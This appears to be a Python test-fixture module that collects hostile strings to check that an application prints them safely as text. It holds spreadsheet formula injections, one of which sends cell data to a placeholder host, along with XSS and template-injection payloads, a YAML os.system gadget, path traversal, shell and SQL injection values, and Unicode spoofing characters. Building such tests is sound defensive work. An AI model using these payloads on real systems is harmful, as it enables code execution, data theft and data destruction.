"""Texts that a person, a file or a language model might put where we print text: all must come out as text."""

from __future__ import annotations

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//example.invalid/x.js>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</textarea></title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>read me</a>",
    "javascript:alert(1)",
    "[read me](javascript:alert(1))",
    "![x](https://example.invalid/x.png)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<!-- --!> <script>alert(1)</script> -->",
    "]]>",
    "<!DOCTYPE x [<!ENTITY e 'boom'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "%(text)s {0} {text!r} %s %n",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| c | d |",
)
SCRIPTS = (
    "\u202egnp.exe",  # right-to-left override
    "\u2066left\u2069 \u2067right\u2069",
    "שלום, עולם",
    "مرحبا",
    "风险登记册",
    "👩🏽\u200d💻 🏴\u200d☠️",
    "e\u0301 is not é until it is normalised",
    "z\u0335\u0321a\u0334\u0322l\u0336g\u0337o",
    "a\u200bb\ufeffc",
    "\u00a0\u2003 \u2028\u2029",
)
YAML = (
    "yes",
    "no",
    "null",
    "~",
    "1e3",
    "0o17",
    "2026-01-01",
    "12:30:45",
    "- a",
    "key: value",
    "# no comment",
    "&anchor",
    "*alias",
    "!!python/object/apply:os.system [echo]",
    "'single' \"double\" \\ back",
    "--- a",
    "%YAML 1.2",
    "trailing ",
    " leading",
    "two\nlines",
    "tab\there",
)
PATHS = (
    "../../etc/passwd",
    "C:\\Windows\\x",
    "/etc/passwd",
    "con",
    "a/b",
    "..",
    "~root",
    "x; rm -rf .",
    "$(id)",
    "`id`",
)
LONG = ("x" * 10_000, "word " * 2_000, "<" * 10_000)

HOSTILE = (*FORMULAS, *MARKUP, *SCRIPTS, *YAML, *PATHS, *LONG, "'; DROP TABLE events; --", "")
"""All of them. None holds NUL or another character that neither XML nor a database takes: see `FORBIDDEN`."""

FORBIDDEN = ("\x00", "a\x00b", "\x08", "\x1b[31mred\x1b[0m", "\ud800", "\ufffe")
"""Texts that may be refused, with a clear error, instead of shown."""
